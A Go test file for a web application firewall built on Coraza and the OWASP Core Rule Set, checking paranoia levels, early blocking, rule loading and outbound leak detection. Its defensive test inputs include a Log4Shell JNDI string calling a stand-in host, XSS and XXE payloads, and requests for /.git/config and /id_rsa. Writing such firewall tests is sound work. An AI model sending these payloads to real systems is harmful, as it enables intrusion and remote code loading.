package waf

import (
	"fmt"
	"io"
	"io/fs"
	"net/http"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"

	coreruleset "github.com/corazawaf/coraza-coreruleset/v4"
	"go.uber.org/zap"

	"sallyport/internal/gate"
)

// policies builds an engine of several policies, each the standard one with a
// change.
func policies(t *testing.T, changes map[string]func(*Policy)) *Engine {
	t.Helper()
	cfg := Config{Memory: 64 << 20, Policies: map[string]Policy{}}
	for name, change := range changes {
		p := standard()
		change(&p)
		cfg.Policies[name] = p
	}
	e, err := New(cfg, zap.NewNop())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { e.Close() })
	return e
}

// TestDetectionParanoia records what rules above the blocking level find, and
// scores nothing for it.
func TestDetectionParanoia(t *testing.T) {
	e := policies(t, map[string]func(*Policy){
		"one":    func(*Policy) {},
		"detect": func(p *Policy) { p.DetectionParanoia = 2 },
		"two":    func(p *Policy) { p.Paranoia = 2 },
	})
	odd := get("/?q=a'b'or'c") // rules of level 2 only
	for policy, want := range map[string]struct {
		action gate.Action
		reason gate.Reason
		found  bool
	}{"one": {gate.Pass, "", false}, "detect": {gate.Pass, "", true}, "two": {gate.Refuse, gate.WAFInboundScore, true}} {
		o := run(e, odd.under(policy))
		o.expect(t, policy, want.action, want.reason)
		found := slices.ContainsFunc(o.result.Hits, func(h gate.RuleHit) bool { return h.Paranoia == 2 })
		if found != want.found {
			t.Errorf("%s: rules %v, a match at level 2: %t, want %t", policy, o.rules(), found, want.found)
		}
		sum := 0
		for _, h := range o.result.Hits {
			sum += h.Score
		}
		if sum != o.result.Score || (sum > 0) != (policy == "two") {
			t.Errorf("%s: the matches score %d, the request %d", policy, sum, o.result.Score)
		}
	}
	run(e, get("/?q=%3Cscript%3Ealert(1)%3C/script%3E").under("detect")).expect(t, "an attack at level 1", gate.Refuse, gate.WAFInboundScore)
}

// counting counts what is read of a body.
type counting struct {
	strings.Reader
	read int
}

func (c *counting) Read(b []byte) (int, error) {
	n, err := c.Reader.Read(b)
	c.read += n
	return n, err
}

// TestEarlyBlocking refuses an attack in the head without reading the body,
// where the policy asks for it and nowhere else.
func TestEarlyBlocking(t *testing.T) {
	e := policies(t, map[string]func(*Policy){
		"late": func(*Policy) {}, "early": func(p *Policy) { p.EarlyBlocking = true },
		"watch": func(p *Policy) { p.EarlyBlocking, p.Mode = true, gate.Watch },
	})
	for _, tc := range []struct {
		policy, target string
		action         gate.Action
		reason         gate.Reason
		reads          bool
	}{
		{"late", "/?a=%24%7Bjndi:ldap://evil.example/a%7D", gate.Refuse, gate.WAFInboundScore, true},
		{"early", "/", gate.Pass, "", true},
		{"early", "/.git/config", gate.Refuse, gate.WAFInboundScore, false},
		{"watch", "/.git/config", gate.Observe, gate.WAFInboundScore, true},
	} {
		body := &counting{Reader: *strings.NewReader("c=a+nice+comment")}
		c := call{policy: tc.policy, method: "POST", target: tc.target, fields: browser("Content-Type", formType, "Transfer-Encoding", "chunked"), source: body}
		o := run(e, c)
		o.expect(t, tc.policy+" "+tc.target, tc.action, tc.reason)
		if (body.read > 0) != tc.reads {
			t.Errorf("%s %s: %d bytes of the body were read", tc.policy, tc.target, body.read)
		}
	}
}

// TestAllowedByPolicy takes types and versions from the policy.
func TestAllowedByPolicy(t *testing.T) {
	e := policies(t, map[string]func(*Policy){
		"default": func(*Policy) {}, "api": func(p *Policy) { p.ContentTypes = []string{"application/json", "text/csv"} },
		"old": func(p *Policy) { p.Versions = []string{"HTTP/1.0", "HTTP/1.1"} }, "new": func(p *Policy) { p.Versions = []string{"HTTP/1.1", "HTTP/2.0"} },
	})
	csv, form := post("text/csv", "a,b"), post(formType, "a=b")
	for _, tc := range []struct {
		name  string
		call  call
		found bool
	}{
		{"csv", csv.under("default"), true}, {"csv", csv.under("api"), false}, {"form", form.under("default"), false}, {"form", form.under("api"), true},
	} {
		if o := run(e, tc.call); slices.Contains(o.rules(), 920420) != tc.found {
			t.Errorf("%s under %s: rules %v, 920420: want %t", tc.name, tc.call.policy, o.rules(), tc.found)
		}
	}
	for policy, found := range map[string]bool{"default": false, "old": true, "new": false} {
		req := get("/").under(policy).request()
		req.Head.Proto, req.HTTP.Proto = "HTTP/2.0", "HTTP/2.0"
		tx := e.Begin(req)
		tx.Request()
		if o := (outcome{result: tx.Close()}); slices.Contains(o.rules(), 920430) != found {
			t.Errorf("HTTP/2.0 under %s: rules %v, 920430: want %t", policy, o.rules(), found)
		}
	}
}

// release writes the embedded Core Rule Set to a directory, as a release of it
// unpacks, with a name of its own.
func release(t *testing.T, under string) string {
	t.Helper()
	dir := t.TempDir()
	if err := os.MkdirAll(filepath.Join(dir, under), 0o700); err != nil {
		t.Fatal(err)
	}
	names, err := fs.Glob(coreruleset.FS, "@owasp_crs/*")
	if err != nil || len(names) < 30 {
		t.Fatal(len(names), err)
	}
	for _, name := range names {
		text, err := fs.ReadFile(coreruleset.FS, name)
		if err != nil {
			t.Fatal(err)
		}
		writeFile(t, filepath.Join(dir, under, filepath.Base(name)), strings.ReplaceAll(string(text), "OWASP_CRS/4.25.0", "OWASP_CRS/4.25.1-mine"))
	}
	return dir
}

// TestOwnCoreRules runs a Core Rule Set from a directory, in both of its
// layouts, with its set-up file and its word lists.
func TestOwnCoreRules(t *testing.T) {
	example, err := fs.ReadFile(coreruleset.FS, "@crs-setup.conf.example")
	if err != nil {
		t.Fatal(err)
	}
	unpacked, flat := release(t, "rules"), release(t, "")
	writeFile(t, filepath.Join(unpacked, "crs-setup.conf"), string(example)+`
SecAction "id:900000,phase:1,pass,t:none,nolog,setvar:tx.blocking_paranoia_level=4"
SecAction "id:900240,phase:1,pass,t:none,nolog,setvar:'tx.restricted_extensions=.mine/'"
`)
	load := func() *Engine {
		return policies(t, map[string]func(*Policy){
			"unpacked": func(p *Policy) { p.CRS = unpacked }, "flat": func(p *Policy) { p.CRS = flat }, "builtin": func(*Policy) {},
		})
	}
	e := load()
	if len(e.warnings) > 0 {
		t.Errorf("warnings: %v", e.warnings)
	}
	infos := e.Policies()
	if infos["unpacked"].CRS != "OWASP_CRS/4.25.1-mine" || infos["builtin"].CRS != "OWASP_CRS/4.25.0" || infos["flat"].Ruleset == infos["builtin"].Ruleset {
		t.Errorf("policies %+v", infos)
	}
	for _, policy := range []string{"unpacked", "flat", "builtin"} {
		o := run(e, get("/?a=%3Cscript%3Ealert(1)%3C/script%3E").under(policy))
		o.expect(t, policy+", an attack", gate.Refuse, gate.WAFInboundScore)
		if policy != "builtin" && !strings.HasPrefix(o.result.Hits[0].File, e.policies[policy].CRS) {
			t.Errorf("%s: the match is said to stand in %s", policy, o.result.Hits[0].File)
		}
		run(e, get("/?q=a'b'or'c").under(policy)).expect(t, policy+", what level 1 lets pass", gate.Pass, "")
		run(e, post("text/xml", `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///tmp/x">]><a>&x;</a>`).under(policy)).expect(t, policy+", a rule of ours", gate.Refuse, gate.WAFInboundScore)
	}
	// What has no key is what its set-up file says.
	run(e, get("/a.mine").under("unpacked")).expect(t, "an extension that the set-up restricts", gate.Refuse, gate.WAFInboundScore)
	run(e, get("/a.mine").under("flat")).expect(t, "the same without the set-up", gate.Pass, "")
	// Its word lists are read beside it, as they are at each reload.
	writeFile(t, filepath.Join(unpacked, "rules", "restricted-files.data"), "/never-this\n")
	next := load()
	for target, want := range map[string][2]gate.Action{"/never-this": {gate.Pass, gate.Refuse}, "/.git/config": {gate.Refuse, gate.Pass}} {
		for i, engine := range []*Engine{e, next} {
			if o := run(engine, get(target).under("unpacked")); o.verdict.Action != want[i] {
				t.Errorf("%s with word list %d: %s, want %s", target, i, o.verdict.Action, want[i])
			}
		}
	}
}

// TestPolicyWithoutRules refuses what would judge nothing.
func TestPolicyWithoutRules(t *testing.T) {
	dir := t.TempDir()
	blank := writeFile(t, filepath.Join(dir, "blank.conf"), "# nothing\nSecMarker A\n")
	own := writeFile(t, filepath.Join(dir, "own.conf"), `SecRule ARGS "@streq evil" "id:1,phase:2,deny"`)
	none := filepath.Join(dir, "none")
	if err := os.MkdirAll(filepath.Join(none, "rules"), 0o700); err != nil {
		t.Fatal(err)
	}
	writeFile(t, filepath.Join(none, "rules", "a.conf"), `SecAction "id:2,phase:1,pass,nolog"`)
	for name, tc := range map[string]struct {
		change func(*Policy)
		want   string
	}{
		"no files":         {func(p *Policy) { p.CRS = "off" }, "policy default: no Core Rule Set and no rule files: nothing would be judged"},
		"a file without":   {func(p *Policy) { p.CRS, p.RulesAfter = "off", []string{blank} }, blank + ": policies.default.crs: no Core Rule Set, and no rule in these files: nothing would be judged; write a rule, or mode: off"},
		"no such place":    {func(p *Policy) { p.CRS = dir + "/nowhere" }, dir + "/nowhere: policies.default.crs: cannot read the directory: no such file or directory"},
		"no scoring rules": {func(p *Policy) { p.CRS = none }, none + ": policies.default.crs: no Core Rule Set: neither the directory nor its directory rules has a file REQUEST-949-….conf; name the directory that a release was unpacked to, or the one that holds its rules"},
	} {
		p := standard()
		tc.change(&p)
		e, err := New(Config{Memory: 1 << 20, Policies: map[string]Policy{"default": p}}, zap.NewNop())
		if err == nil {
			e.Close()
			t.Errorf("%s: accepted", name)
		} else if err.Error() != tc.want {
			t.Errorf("%s: %v, want %s", name, err, tc.want)
		}
	}
	e := engineWith(t, func(p *Policy) { p.CRS, p.RulesAfter = "off", []string{own} })
	run(e, get("/?a=evil")).expect(t, "a rule of the operator's", gate.Refuse, gate.WAFRule)
	run(e, get("/?a=%3Cscript%3E")).expect(t, "what only the Core Rule Set knows", gate.Pass, "")
	if info := e.Policies()["default"]; info.CRS != "" || info.Rules != 3 {
		t.Errorf("policy %+v, want two rules of ours and one of the operator's", info)
	}
}

// TestShippedRulesRefuse refuses by our own rules what the Core Rule Set lets
// pass, in both directions, at the levels that they are for.
func TestShippedRulesRefuse(t *testing.T) {
	e := policies(t, map[string]func(*Policy){"one": func(*Policy) {}, "two": func(p *Policy) { p.Paranoia = 2 }})
	for _, tc := range []struct {
		policy, target string
		action         gate.Action
	}{
		{"one", "/id_rsa", gate.Refuse}, {"one", "/id_rsa.pub", gate.Pass}, {"one", "/backup.zip", gate.Pass}, {"two", "/backup.zip", gate.Refuse}, {"two", "/report.zip", gate.Pass},
	} {
		if o := run(e, get(tc.target).under(tc.policy)); o.verdict.Action != tc.action {
			t.Errorf("%s under %s: %s, rules %v", tc.target, tc.policy, o.verdict.Action, o.rules())
		}
	}
	key := "<pre>-----BEGIN PRIVATE KEY-----\n" + strings.Repeat("MIIEpAIB", 8) + "\n</pre>"
	for _, tc := range []struct {
		policy, body string
		status       int
		action       gate.Action
	}{
		{"one", key, 500, gate.Refuse}, {"one", key, 200, gate.Pass}, // only errors are held
		{"one", "<p>-----BEGIN PRIVATE KEY-----</p>", 500, gate.Pass},
		{"one", "goroutine 1 [running]:\nmain.main()", 404, gate.Pass}, {"two", "goroutine 1 [running]:\nmain.main()", 404, gate.Refuse},
	} {
		tx := e.Begin(get("/").under(tc.policy).request())
		tx.Request()
		resp := &http.Response{StatusCode: tc.status, Proto: "HTTP/1.1", Header: http.Header{"Content-Type": {"text/html"}}, Body: io.NopCloser(strings.NewReader(tc.body)), ContentLength: int64(len(tc.body))}
		v := tx.Response(resp)
		o := outcome{verdict: v, result: tx.Close()}
		if v.Action != tc.action || tc.action == gate.Refuse && v.Reason != gate.WAFOutboundScore {
			t.Errorf("%.30q with status %d under %s: %s %s, rules %v", tc.body, tc.status, tc.policy, v.Action, v.Reason, o.rules())
		}
	}
}

// TestSettingsAreNoRules compiles the Core Rule Set once for policies that only
// set it otherwise, and names each by a hash of its own.
func TestSettingsAreNoRules(t *testing.T) {
	changes := map[string]func(*Policy){}
	for i := range 20 {
		changes[fmt.Sprintf("p%d", i)] = func(p *Policy) {
			p.Paranoia, p.OutboundThreshold, p.Methods, p.EarlyBlocking = 1+i%4, 4+i, []string{"GET", "POST"}, i%2 == 0
			p.ContentTypes, p.Versions = []string{"application/json"}, []string{"HTTP/1.1"}
			p.Exclusions = []Exclusion{exclude(t, "942100", fmt.Sprintf("ARGS:q%d", i), forPath("/search"))}
		}
	}
	e := policies(t, changes)
	hashes := map[string]bool{}
	for _, info := range e.Policies() {
		hashes[info.Ruleset] = true
	}
	if len(e.rulesets) != 1 || len(hashes) != 20 {
		t.Errorf("%d sets of rules with %d hashes for 20 policies, want 1 with 20", len(e.rulesets), len(hashes))
	}
	got := map[string]string{}
	for _, s := range e.policies["p5"].settings {
		got[s.name] = s.value[0]
	}
	if want := map[string]string{
		"blocking_paranoia_level": "2", "detection_paranoia_level": "2", "inbound_anomaly_score_threshold": "5", "outbound_anomaly_score_threshold": "9",
		"allowed_methods": "GET POST", "allowed_http_versions": "HTTP/1.1", "allowed_request_content_type": "|application/json|", "crs_setup_version": "4250",
		"restricted_headers_basic": got["restricted_headers_basic"], // request_body.decode has a test of its own
	}; !reflect.DeepEqual(got, want) {
		t.Errorf("set %v, want %v", got, want)
	}
	odd := get("/?q=a'b'or'c")
	run(e, odd.under("p0")).expect(t, "at level 1", gate.Pass, "")
	run(e, odd.under("p1")).expect(t, "at level 2", gate.Refuse, gate.WAFInboundScore)
}

// TestExclusionsAreNotShared keeps apart two policies whose exclusions read the
// same, but for one of which the route is a condition.
func TestExclusionsAreNotShared(t *testing.T) {
	x := exclude(t, "attack-sqli", "ARGS:/^q$/", forRoute("shop"))
	e := policies(t, map[string]func(*Policy){
		"only": func(p *Policy) { p.Exclusions, p.Routes = []Exclusion{x}, []string{"shop"} },
		"both": func(p *Policy) { p.Exclusions, p.Routes = []Exclusion{x}, []string{"shop", "api"} },
	})
	for policy, want := range map[string]gate.Action{"only": gate.Pass, "both": gate.Refuse} {
		req := get("/?q=" + sqli).under(policy).request()
		req.Route.Name = "api"
		tx := e.Begin(req)
		if v := tx.Request(); v.Action != want {
			t.Errorf("%s: %s, want %s", policy, v.Action, want)
		}
		tx.Close()
	}
}

// TestOffCostsNothing begins no transaction of the engine where the policy is
// off.
func TestOffCostsNothing(t *testing.T) {
	e := sharedEngine(t)
	req := get("/?id=" + sqli).under("off").request()
	if n := testing.AllocsPerRun(100, func() {
		tx := e.Begin(req)
		if tx.run.tx != nil || !tx.Request().Passed() {
			t.Fatal("a policy that is off judges")
		}
		tx.Close()
	}); n > 1 {
		t.Errorf("%v allocations for a policy that is off, want the transaction alone", n)
	}
}
